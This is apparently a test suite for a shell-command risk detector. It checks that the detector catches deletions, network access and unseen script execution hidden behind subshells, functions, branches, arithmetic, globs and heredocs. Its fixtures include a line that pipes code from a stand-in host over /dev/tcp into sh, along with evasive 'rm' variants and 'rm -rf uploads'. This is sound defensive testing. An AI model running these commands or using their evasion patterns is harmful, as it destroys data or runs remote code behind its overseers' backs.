import assert from "node:assert/strict";
import { test } from "node:test";
import { compare, judgedFacts, kindsOf, linesOf } from "../../test/world/judged-commands.ts";
import { commandFindings } from "./commands.ts";

const nothingListed = { commands: [], onlySafe: false };
const again = (command: string, times: number) => Array.from({ length: times }, () => command).join("; ");

test("what was read is behind the reader: many commands one after the other are no deeper than one [H1]", () => {
  compare(commandFindings, [
    [again("bash -c ls", 20), ""],
    [again("env nice ls", 60), ""],
    [again("echo $(echo $(echo a))", 20), ""],
    [again("eval 'eval ls'", 20), ""],
    [`f() { ls; }; ${again("f", 30)}`, ""],
    [again("python3 -c 'print(1)'", 20), ""],
    [again("node -e 'console.log(1)'", 20), ""],
    [`${again("python3 -c 'print(1)'", 20)}; python3 -c 'import os; os.remove("outputs/a")'`, "delete"],
    [`${again("bash -c ls", 20)}; bash -c 'rm outputs/a'`, "delete"],
    [again("[ -e a ] && ls", 60), ""],
  ]);
});

test("where a part of a command has a shell of its own, what it changes is not so for the rest [H1]", () => {
  compare(commandFindings, [
    ...linesOf(
      "delete",
      `(cd temp); rm a
       echo x | cd temp; rm a
       X=temp | true; rm $X/a
       { cd temp; } | cat; rm a
       echo $(cd temp); rm a
       coproc cd temp; rm a
       (X=temp); rm $X/a
       X=outputs; (X=temp); rm $X/a
       cat <(cd temp); rm a
       bash -c 'cd temp'; rm a
       (f() { cd temp; }); f; rm a
       X=temp; (X=outputs; rm $X/a)
       env X=temp true; rm $X/a`,
    ),
    ...linesOf(
      "",
      `(cd temp && rm a)
       cd temp && (cd b; ls) && rm a
       X=temp; (X=outputs); rm $X/a
       X=temp; X=outputs | true; rm $X/a
       X=temp; echo $(X=outputs); rm $X/a
       X=temp; bash -c 'X=outputs'; rm $X/a
       { cd temp && rm a; }
       cd temp && { ls; rm a; }`,
    ),
  ]);
});

test("after a function its words are those of whoever called it, and a loop without words goes through them [H1]", () => {
  compare(commandFindings, [
    ...linesOf(
      "",
      `set -- temp/a; f() { ls $1; }; f outputs/b; rm $1
       f() { g outputs/b; rm $1; }; g() { ls $1; }; f temp/a
       set -- temp/a temp/b; for x; do rm $x; done
       set -- temp/a temp/b; for x do rm $x; done
       f() { for x; do rm $x; done; }; f temp/a temp/b
       set -- temp/a temp/b; rm $2
       f() { rm "\${@}"; }; f temp/a temp/b`,
    ),
    ...linesOf(
      "delete",
      `set -- temp/a; f() { ls $1; }; f temp/b; rm $1 outputs/c
       f() { g temp/b; rm $1; }; g() { ls $1; }; f outputs/a
       set -- temp/a outputs/b; for x; do rm $x; done
       f() { for x; do rm $x; done; }; f temp/a outputs/b
       set -- temp/a outputs/b; rm $2
       for x; do rm $x; done
       f() { rm $2; }; f temp/a outputs/b`,
    ),
  ]);
});

test("whichever branch is taken, what it leaves behind is known afterwards [H1]", () => {
  compare(commandFindings, [
    ...linesOf(
      "delete",
      `if a; then f() { rm outputs/a; }; else f() { ls; }; fi; f
       if a; then f() { ls; }; else f() { rm outputs/a; }; fi; f
       if a; then x=temp; elif b; then x=outputs; else x=temp; fi; rm $x/a
       if a; then x=temp; elif b; then x=temp; else x=outputs; fi; rm $x/a
       case $y in a) x=temp;; b) x=outputs;; esac; rm $x/a
       case $(rm outputs/a) in a) ls;; esac
       x=temp; case $y in b) x=outputs;; esac; rm $x/a
       x=temp; [ -e y ] && x=outputs; rm $x/a
       x=temp; [ -e y ] || x=outputs; rm $x/a
       x=temp; while a; do x=outputs; done; rm $x/a
       x=temp; until a; do x=outputs; done; rm $x/a
       for x in temp outputs; do :; done; rm $x/a
       select x in temp outputs; do rm $x/a; done
       if cd temp/b; then :; else rm a; fi
       if ! cd temp/b; then rm a; fi
       if [ -e x ]; then cd temp; fi; rm a
       while cd temp/b; do ls; done; rm a
       if rm outputs/a; then ls; fi
       if ls; then ls; elif rm outputs/a; then ls; fi
       while rm outputs/a; do ls; done
       until rm outputs/a; do ls; done`,
    ),
    ...linesOf(
      "",
      `if a; then x=temp; else x=temp/b; fi; rm $x/a
       case $y in a) x=temp;; *) x=temp/b;; esac; x=temp; rm $x/a
       for x in temp temp/b; do rm $x/a; done
       select x in temp temp/b; do rm $x/a; done
       if cd temp/b; then rm a; fi
       while read x; do ls; done
       if a; then f() { rm temp/a; }; else f() { rm temp/b; }; fi; f`,
    ),
  ]);
});

test("commands are found in sums, comparisons and the heads of loops, and a counter leads nowhere [H1]", () => {
  compare(commandFindings, [
    ...linesOf(
      "delete",
      `for ((i=$(rm outputs/a); i<3; i++)); do ls; done
       for ((i=0; i<$(rm outputs/a); i++)); do ls; done
       for ((i=0; i<3; i+=$(rm outputs/a))); do ls; done
       for ((i=0; i<3; i++)); do rm outputs/$i; done
       (( x = $(rm outputs/a) ))
       (( -$(rm outputs/a) ))
       (( ($(rm outputs/a)) + 1 ))
       (( a ? $(rm outputs/a) : 1 ))
       (( a ? 1 : $(rm outputs/a) ))
       [[ -e $(rm outputs/a) ]]
       [[ a == $(rm outputs/a) ]]
       [[ $(rm outputs/a) == a ]]
       [[ -e a && -e $(rm outputs/a) ]]
       [[ ! -e $(rm outputs/a) ]]
       [[ ( -e $(rm outputs/a) ) ]]
       a[$(rm outputs/a)]=1
       a=($(rm outputs/a))
       echo \${a[$(rm outputs/a)]}
       for x in $(rm outputs/a); do ls; done`,
    ),
    ...linesOf(
      "",
      `for ((i=0; i<3; i++)); do rm temp/$i; done
       (( x = 1 + 2 )); [[ -e a && ! ( b == c ) ]]; ls`,
    ),
  ]);
});

test("a word falls apart where the shell lets it, and a pattern stands for what it can [H1]", () => {
  compare(commandFindings, [
    ...linesOf(
      "delete",
      `IFS=,; x=temp/a,outputs/b; rm $x
       IFS=:; x=temp/a:outputs/b; rm $x
       x='temp/a outputs/b'; rm $x
       x='a outputs'; rm temp/$x/b
       P=temp/a; rm \${P/t*/outputs}
       P=temp/a; rm \${P/$Q/outputs}
       rm [o]utputs/a
       rm [!t]*/a
       cd [a-z]utputs; rm a
       rm ou?puts/a`,
    ),
    ...linesOf(
      "",
      `x='temp/a temp/b'; rm $x
       x='temp/a outputs/b'; rm "$x"
       x=temp/a,outputs/b; rm $x
       x='a temp'; rm temp/$x/b
       rm temp/[a-z]*`,
    ),
  ]);
  compare(commandFindings, [
    ["cd temp\r\nrm a\r\n", ""],
    ["cd outputs\r\nrm a\r\n", "delete"],
    ["ls\0", "unreadable"],
  ]);
});

test("a file that is open by number is read and written by that number [H1]", () => {
  compare(commandFindings, [
    ["echo 'rm outputs/a' 2> temp/x.sh; sh temp/x.sh", "run_unseen"],
    ["echo 'rm outputs/a' > temp/x.sh 2>&1; sh temp/x.sh", "delete"],
    ["sh < /dev/tcp/a.example/80", "network"],
    ["echo x > /dev/udp/a.example/53", "network"],
    ["x='rm outputs/a'; sh <<E\n$x\nE", "delete"],
    ["x='rm outputs/a'; sh <<'E'\nls $x\nE", ""],
    ["sh <<E\nrm $(echo outputs)/a\nE", "delete"],
    ["sh 0<&- ", ""],
    ["echo 'rm outputs/a' | sh <&0", "delete"],
    ["echo 'rm outputs/a' | sh < temp/nothing", ""],
  ]);
});

test("where no sandbox contains a program, writing outside the files asks, and what a sandbox would keep apart is the machine's own [H1]", () => {
  const bare = (command: string) =>
    kindsOf(
      commandFindings(command, { ...judgedFacts, contained: false }, { commands: ["ls", "echo"], onlySafe: false }),
    );
  assert.deepEqual(
    ["echo x > /opt/a", "echo x > temp/a", "echo x > outputs/a", "echo x > /dev/null", "ls", "make"].map(bare),
    ["not_safe", "", "", "", "", "not_safe"],
  );
  const risks = (command: string, tainted: boolean) =>
    commandFindings(command, { ...judgedFacts, tainted }, nothingListed).map(({ risk, raised }) => [risk, raised]);
  assert.deepEqual(
    [risks("rm outputs/a", false), risks("rm outputs/a", true), risks("rm -rf uploads", true)],
    [[["medium", undefined]], [["high", true]], [["critical", true]]],
  );
});

test("the same finding again is told once, with the graver of its risks, and very many leave room for what is worse [H1]", () => {
  const told = (command: string) =>
    commandFindings(command, judgedFacts, nothingListed).map(({ kind, risk, what }) => `${kind} ${risk} ${what}`);
  assert.deepEqual(told("X=outputs/a; rm -r $X; for X in outputs uploads; do rm -r $X; done"), [
    "delete critical rm -r $X",
  ]);
  assert.deepEqual(told("rm outputs/a; ls; rm outputs/a"), ["delete medium rm outputs/a"]);
  assert.deepEqual(told("rm [!o]ploads/a"), ["delete critical rm [!o]ploads/a"]);
  assert.deepEqual(told("rm [!u]ploads/a"), ["delete high rm [!u]ploads/a"]);
  const many = Array.from({ length: 250 }, (_, at) => `rm outputs/${at}`).join("; ");
  const all = told(`${many}; rm -rf uploads`);
  assert.deepEqual(
    [all.length, all.at(-1), all.at(-2)],
    [200, "delete critical rm -rf uploads", "delete medium rm outputs/198"],
  );
});
